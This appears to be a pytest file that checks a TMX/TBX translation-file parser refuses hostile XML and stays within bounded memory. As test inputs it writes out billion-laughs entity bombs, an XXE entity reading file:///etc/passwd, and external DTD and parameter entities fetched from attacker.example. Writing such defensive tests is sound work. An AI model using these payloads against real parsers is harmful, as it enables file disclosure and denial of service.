"""Hostile TMX and TBX files (security review, issue 15): refused with the project's own
sentence, or read, in bounded memory.

The large inputs are made by generators; the memory checks parse a 20 MB file in a child
process and look at how far its peak resident memory grew (no timing is asserted anywhere).
"""

from __future__ import annotations

import io
import subprocess
import sys
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tmx import TmxParseError, Variant, read_tmx
from tmx.tbx import TbxError, read_tbx

ROOT = Path(__file__).resolve().parents[2]

PROLOG = '<?xml version="1.0" encoding="{encoding}"?>\n'
TMX_START = ('<tmx version="1.4">\n<header creationtool="t" creationtoolversion="1" '
             'segtype="sentence" o-tmf="t" adminlang="en" srclang="en" datatype="plaintext">\n')
TU = ('<tu><tuv xml:lang="en"><seg>{text}</seg></tuv><tuv xml:lang="ru"><seg>Привет.</seg></tuv>'
      "</tu>\n")
TMX_UNITS = (Variant("en", "Hello."), Variant("ru", "Привет."))


def tmx(doctype: str = "", *, text: str = "Hello.", header: str = "", body: str = "",
        encoding: str = "UTF-8") -> bytes:
    document = (PROLOG.format(encoding=encoding) + doctype + TMX_START + header
                + "</header>\n<body>\n" + TU.format(text=text) + body + "</body>\n</tmx>\n")
    return document.encode(encoding)


TBX_START = ('<tbx xmlns="urn:iso:std:iso:30042:ed-2" type="TBX-Basic" style="dca" '
             'xml:lang="en">\n<tbxHeader><fileDesc><sourceDesc><p>Hostile</p></sourceDesc>'
             "</fileDesc></tbxHeader>\n<text><body>\n")
CONCEPT = ('<conceptEntry id="c{n}"><langSec xml:lang="en"><termSec><term>{term}</term>'
           "</termSec></langSec></conceptEntry>\n")


def tbx(doctype: str = "", *, term: str = "term", concepts: int = 1,
        encoding: str = "UTF-8") -> bytes:
    entries = "".join(CONCEPT.format(n=n, term=term) for n in range(concepts))
    document = (PROLOG.format(encoding=encoding) + doctype + TBX_START + entries
                + "</body></text></tbx>\n")
    return document.encode(encoding)


LAUGHS = ('<!DOCTYPE {root} [\n<!ENTITY lol "lol">\n'
          + "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";" if n > 1 else "&lol;") * 10}">\n'
                    for n in range(1, 10))
          + "]>\n")
XXE = '<!DOCTYPE {root} [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
PARAMETER_ENTITY = ('<!DOCTYPE {root} [\n<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd">\n'
                    "%dtd;\n]>\n")

TMX_ENTITIES = ("line 2: the file declares its own entities in its <!DOCTYPE> — that is how "
                "'billion laughs' XML bombs work, so the file is refused")
TMX_XXE = ("line 2: the file declares an external entity 'xxe' pointing to file:///etc/passwd — "
           "a TMX never needs one, and reading it could leak files from this computer, so the "
           "file is refused")
TMX_PARAMETER = ("line 2: the file declares an external entity 'dtd' pointing to "
                 "http://attacker.example/x.dtd — a TMX never needs one, and reading it could "
                 "leak files from this computer, so the file is refused")
TBX_ENTITIES = ("evil.tbx declares entities in its document type; such files can expand without "
                "end or read other files, so it was refused.")


def many_variants(count: int) -> bytes:
    variants = ('<tuv xml:lang="en"><seg>x</seg></tuv>' for _ in range(count))
    return tmx(body="<tu>" + "".join(variants) + "</tu>\n")


def many_header_props(count: int) -> str:
    return "".join(f'<prop type="x-{n}">value</prop>\n' for n in range(count))


def junk(megabytes: int, line: str = '<x-junk a="1"><x-child>some text</x-child></x-junk>\n'
         ) -> Iterator[str]:
    for _ in range(megabytes * 1_000_000 // len(line)):
        yield line


def truncated_tmx() -> bytes:
    data = tmx(body=TU.format(text="Second."))
    return data[: data.index(b"Second.")]


# name, the file, which reader with which limits, the sentence (or its key part; None: read)
Case = tuple[str, Callable[[], bytes], str, dict[str, Any], str | None]
CASES: list[Case] = [
    ("billion laughs", lambda: tmx(LAUGHS.format(root="tmx"), text="&lol9;"), "tmx", {},
     TMX_ENTITIES),
    ("billion laughs, UTF-16 LE", lambda: tmx(LAUGHS.format(root="tmx"), text="&lol9;",
                                              encoding="UTF-16"), "tmx", {}, TMX_ENTITIES),
    ("billion laughs, UTF-16 BE",
     lambda: b"\xfe\xff" + tmx(LAUGHS.format(root="tmx"), encoding="UTF-16BE"), "tmx", {},
     TMX_ENTITIES),
    ("billion laughs, UTF-32 with BOM", lambda: tmx(LAUGHS.format(root="tmx"), encoding="UTF-32"),
     "tmx", {}, TMX_ENTITIES),
    ("billion laughs, UTF-32 BE", lambda: tmx(LAUGHS.format(root="tmx"), encoding="UTF-32BE"),
     "tmx", {}, TMX_ENTITIES),
    ("XXE", lambda: tmx(XXE.format(root="tmx"), text="&xxe;"), "tmx", {}, TMX_XXE),
    ("XXE, UTF-16", lambda: tmx(XXE.format(root="tmx"), text="&xxe;", encoding="UTF-16"),
     "tmx", {}, TMX_XXE),
    ("external parameter entity", lambda: tmx(PARAMETER_ENTITY.format(root="tmx")), "tmx", {},
     TMX_PARAMETER),
    ("outside DTD", lambda: tmx('<!DOCTYPE tmx SYSTEM "http://attacker.example/evil.dtd">\n'),
     "tmx", {}, "line 2: the file's <!DOCTYPE> points to an outside DTD "
                "(http://attacker.example/evil.dtd); only the TMX DTD (tmx14.dtd) is accepted"),
    ("tmx14b.dtd with entities", lambda: tmx('<!DOCTYPE tmx SYSTEM "tmx14b.dtd" [\n'
                                             '<!ENTITY x "y">\n]>\n'), "tmx", {}, TMX_ENTITIES),
    ("TBX billion laughs", lambda: tbx(LAUGHS.format(root="tbx"), term="&lol9;"), "tbx", {},
     TBX_ENTITIES),
    ("TBX billion laughs, UTF-16", lambda: tbx(LAUGHS.format(root="tbx"), term="&lol9;",
                                               encoding="UTF-16"), "tbx", {}, TBX_ENTITIES),
    ("TBX XXE, UTF-16", lambda: tbx(XXE.format(root="tbx"), term="&xxe;", encoding="UTF-16"),
     "tbx", {}, TBX_ENTITIES),
    ("TBX XXE, UTF-32", lambda: tbx(XXE.format(root="tbx"), term="&xxe;", encoding="UTF-32"),
     "tbx", {}, TBX_ENTITIES),
    ("TBX external parameter entity", lambda: tbx(PARAMETER_ENTITY.format(root="tbx")), "tbx", {},
     TBX_ENTITIES),
    ("a unit of 600,000 variants", lambda: many_variants(600_000), "tmx", {},
     "line 7: a <tu> has more than 1,000 variants — the file is refused"),
    ("a unit over a small variant limit", lambda: many_variants(3), "tmx", {"max_variants": 2},
     "line 7: a <tu> has more than 2 variants — the file is refused"),
    ("a header of 200,000 properties", lambda: tmx(header=many_header_props(200_000)), "tmx", {},
     "line 3: a <header> holds more than 50,000 elements and attributes — absurdly many, so the "
     "file is refused"),
    ("a unit of 100,000 inline codes", lambda: tmx(body=TU.format(text="<ph/>" * 100_000)),
     "tmx", {"max_unit_nodes": 10_000},
     "line 7: a <tu> holds more than 10,000 elements and attributes — absurdly many, so the "
     "file is refused"),
    ("a body of 20 MB of unknown elements", lambda: tmx(body="".join(junk(20)) + TU.format(
        text="Hello.")), "tmx", {}, None),
    ("truncated", truncated_tmx, "tmx", {},
     "line 7: the file ends inside a <tu> — it is truncated"),
    ("a segment over the limit", lambda: tmx(text="x" * 101), "tmx", {"max_segment_chars": 100},
     "line 6: a <seg> holds more than 100 characters — absurdly large for a translation unit, "
     "so the file is refused"),
    ("a segment over the default limit", lambda: tmx(text="x" * 1_000_001), "tmx", {},
     "line 6: a <seg> holds more than 1,000,000 characters"),
    ("TBX over the concept limit", lambda: tbx(concepts=4), "tbx", {"max_concepts": 3},
     "evil.tbx holds more than 3 concepts, the most one import takes, so it was refused."),
    ("TBX concept over the term limit",
     lambda: tbx(term="a</term></termSec><termSec><term>b</term></termSec><termSec><term>c"),
     "tbx", {"max_terms": 2},
     "Concept c0 of evil.tbx has more than 2 terms, so the file was refused."),
    ("TBX term over the length limit", lambda: tbx(term="x" * 11), "tbx", {"max_term_chars": 10},
     "Concept c0 of evil.tbx has a term longer than 10 characters, so the file was refused."),
    ("TBX concept of 150,000 elements", lambda: tbx(term="t</term><x/>" + "<y/>" * 150_000
                                                    + "<term>"), "tbx", {},
     "evil.tbx has a <conceptEntry> (line 5) holding more than 100,000 elements and "
     "attributes, so it was refused."),
    ("TBX truncated", lambda: tbx(concepts=3)[:-40], "tbx", {},
     "evil.tbx is not well-formed XML"),
    ("TBX root beyond 64 KB", lambda: b"<!--" + b"-" * 70_000 + b"-->" + tbx()[39:], "tbx", {},
     "evil.tbx is not a termbase: no <tbx> or <martif> element begins in its first 64 KB."),
]


@pytest.mark.parametrize(("make", "reader", "limits", "message"),
                         [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_hostile_input(make: Callable[[], bytes], reader: str, limits: dict[str, Any],
                       message: str | None) -> None:
    data = make()
    if reader == "tbx":
        if message is None:
            assert read_tbx(io.BytesIO(data), name="evil.tbx", **limits).concepts
            return
        with pytest.raises(TbxError) as tbx_refusal:
            read_tbx(io.BytesIO(data), name="evil.tbx", **limits)
        assert str(tbx_refusal.value).startswith(message)
        return
    if message is None:
        _, units = read_tmx(io.BytesIO(data), **limits)
        assert [unit.variants for unit in units] == [TMX_UNITS, TMX_UNITS]
        return
    with pytest.raises(TmxParseError) as refusal:
        _, units = read_tmx(io.BytesIO(data), **limits)
        list(units)
    assert str(refusal.value).startswith(message)


@pytest.mark.parametrize("encoding", ["UTF-8", "UTF-16", "UTF-16LE", "UTF-32", "UTF-32LE"])
def test_the_tmx_14b_doctype_is_accepted_in_any_encoding(encoding: str) -> None:
    data = tmx('<!DOCTYPE tmx PUBLIC "-//LISA OSCAR:1998//DTD for Translation Memory eXchange//EN"'
               ' "tmx14b.dtd">\n', encoding=encoding)
    if encoding.endswith("LE"):  # the byte-order mark Python leaves out
        data = (b"\xff\xfe\x00\x00" if "32" in encoding else b"\xff\xfe") + data
    _, units = read_tmx(io.BytesIO(data))
    assert [unit.variants for unit in units] == [TMX_UNITS]


def test_a_utf16_tbx_without_entities_is_read() -> None:
    termbase = read_tbx(io.BytesIO(tbx(concepts=2, encoding="UTF-16")))
    assert termbase.title == "Hostile"
    assert [concept.terms[0].text for concept in termbase.concepts] == ["term", "term"]


def test_unknown_elements_inside_a_kept_element_are_read_past() -> None:
    body = ('<x-before><x/></x-before><tu tuid="7"><x-mine>junk<x/></x-mine>'
            '<tuv xml:lang="en"><seg>A</seg></tuv></tu>\n<x-after/>')
    _, units = read_tmx(io.BytesIO(tmx(body=body)))
    assert [(unit.tuid, unit.variants) for unit in units] == [
        (None, TMX_UNITS), ("7", (Variant("en", "A"),))]


def test_what_is_kept_stays_whole_across_many_reads() -> None:
    # Each spans several of the parser's 32 KB reads, between which the rest is dropped.
    header = many_header_props(3_000)
    unit = "<tu>" + "".join(f'<tuv xml:lang="l{n}"><seg>{"x" * 90}</seg></tuv>'
                             for n in range(900)) + "</tu>\n"
    header_read, units = read_tmx(io.BytesIO(tmx(header=header, body=unit + "<x/>" * 50_000)))
    assert len(header_read.properties) == 3_000
    assert header_read.properties[-1] == ("x-2999", "value")
    assert [len(unit.variants) for unit in units] == [2, 900]
    title = "".join(f"<p>line {n}</p>" for n in range(10_000))
    data = tbx(concepts=2).replace(b"<p>Hostile</p>", title.encode())
    assert read_tbx(io.BytesIO(data)).title.endswith("line 9998 line 9999")


# --- memory ---------------------------------------------------------------------------------

MAX_GROWTH_MB = 150  # the reader at HEAD grew by 270-650 MB on each of these files

# The child's peak resident memory is its VmHWM: ru_maxrss would start at the parent's own
# peak (Linux carries it over an exec), which would hide the growth when pytest is large.
CHILD = """
import resource, sys
sys.path.insert(0, sys.argv[1])
from tmx import read_tmx
from tmx.tbx import read_tbx

def peak():
    try:
        with open("/proc/self/status") as status:
            return next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
    except (OSError, StopIteration):
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

before = peak()
outcome = "read"
try:
    with open(sys.argv[2], "rb") as source:
        if sys.argv[3] == "tbx":
            outcome += " %d concepts" % len(read_tbx(source).concepts)
        else:
            outcome += " %d units" % sum(1 for _ in read_tmx(source)[1])
except ValueError as error:
    outcome = "refused: %s" % error
grown = peak() - before
print(grown // 1024, outcome)
"""


def write(path: Path, parts: Iterable[str]) -> Path:
    with path.open("w", encoding="utf-8") as out:
        out.writelines(parts)
    return path


def tmx_parts(header: Iterable[str] = (), body: Iterable[str] = ()) -> Iterator[str]:
    yield PROLOG.format(encoding="UTF-8") + TMX_START
    yield from header
    yield "</header>\n<body>\n" + TU.format(text="Hello.")
    yield from body
    yield TU.format(text="Hello.") + "</body>\n</tmx>\n"


def tbx_parts(concepts: int) -> Iterator[str]:
    yield PROLOG.format(encoding="UTF-8") + TBX_START
    yield from (CONCEPT.format(n=n, term=f"term {n}") for n in range(concepts))
    yield "</body></text></tbx>\n"


MEMORY_CASES = {
    "20 MB of unknown elements in the body": (
        "tmx", lambda: tmx_parts(body=junk(20, "<j/>" * 15 + "\n")), "read 2 units"),
    "20 MB of properties in the header": (
        "tmx", lambda: tmx_parts(header=(f'<prop type="x-{n}">v</prop>\n'
                                         for n in range(700_000))),
        "refused: line 3: a <header> holds more than 50,000 elements"),
    "20 MB of variants in one unit": (
        "tmx", lambda: tmx_parts(body=["<tu>", *('<tuv xml:lang="en"><seg>x</seg></tuv>'
                                                 for _ in range(540_000)), "</tu>"]),
        "refused: line 7: a <tu> has more than 1,000 variants"),
    "20 MB of concepts": (
        "tbx", lambda: tbx_parts(180_000),
        "refused: the TBX file holds more than 50,000 concepts"),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", list(MEMORY_CASES))
def test_memory_stays_bounded_whatever_the_file_holds(case: str, tmp_path: Path) -> None:
    reader, parts, outcome = MEMORY_CASES[case]
    path = write(tmp_path / "hostile.xml", parts())
    assert path.stat().st_size > 19_000_000
    result = subprocess.run([sys.executable, "-c", CHILD, str(ROOT), str(path), reader],
                            capture_output=True, text=True, check=True)
    grown, said = result.stdout.split(" ", 1)
    assert int(grown) < MAX_GROWTH_MB, f"{case}: peak memory grew by {grown} MB ({said})"
    assert said.startswith(outcome), said
